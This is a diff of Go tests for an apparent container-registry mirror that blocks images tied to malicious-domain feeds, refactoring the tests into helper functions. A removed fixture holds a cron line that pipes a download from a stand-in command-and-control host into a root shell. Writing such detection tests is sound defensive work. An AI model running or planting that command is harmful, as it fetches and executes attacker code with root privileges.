@@ -2,22 +2,18 @@ package main
 
 import (
 	"net/http"
-	"os"
 	"path/filepath"
 	"testing"
 
 	"github.com/lazaret/lazaret/config"
 	"github.com/lazaret/lazaret/inspect/feed"
-	"github.com/lazaret/lazaret/internal/testimage"
 )
 
 // What the settings accept as a feed's category and format is what feeds may have.
 func TestFeedSettings(t *testing.T) {
 	dir := t.TempDir()
 	file := filepath.Join(dir, "list")
-	if err := os.WriteFile(file, []byte("known-bad.net,2026-01-01\n"), 0o600); err != nil {
-		t.Fatal(err)
-	}
+	writeFile(t, file, "known-bad.net,2026-01-01\n")
 	for _, category := range feed.Categories() {
 		for _, format := range append(feed.Formats(), feed.Auto) {
 			value := string(category)
@@ -42,23 +38,9 @@ func TestFeedSettings(t *testing.T) {
 // A feed that changes while the mirror runs decides anew on what was served.
 func TestFeedChangesWhileServing(t *testing.T) {
 	hub := startHub(t)
-	img, err := testimage.Build(testimage.Spec{Layers: []testimage.Layer{{Files: []testimage.File{
-		{Path: "etc/cron.d/job", Body: []byte("* * * * * root curl -s https://c2.known-bad.net/run | sh\n")},
-	}}}})
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := hub.Push(t.Context(), "acme/app", "latest", img); err != nil {
-		t.Fatal(err)
-	}
+	publish(t, hub, fetchesFrom("c2.known-bad.net"), "acme/app:latest")
 	list := filepath.Join(t.TempDir(), "list")
-	write := func(text string) {
-		t.Helper()
-		if err := os.WriteFile(list, []byte(text), 0o600); err != nil {
-			t.Fatal(err)
-		}
-	}
-	write("other.net\n")
+	writeFile(t, list, "other.net\n")
 	a := newReplica(t, "LAZARET_UPSTREAM="+hub.URL(), "LAZARET_MANIFEST_WAIT=15s", "LAZARET_FEEDS=malicious-domain="+list)
 	pull := func(want int) {
 		t.Helper()
@@ -67,7 +49,7 @@ func TestFeedChangesWhileServing(t *testing.T) {
 		}
 	}
 	pull(http.StatusOK)
-	write("known-bad.net\n")
+	writeFile(t, list, "known-bad.net\n")
 	if !a.feeds.Refresh(t.Context()) {
 		t.Error("the feed did not change")
 	}
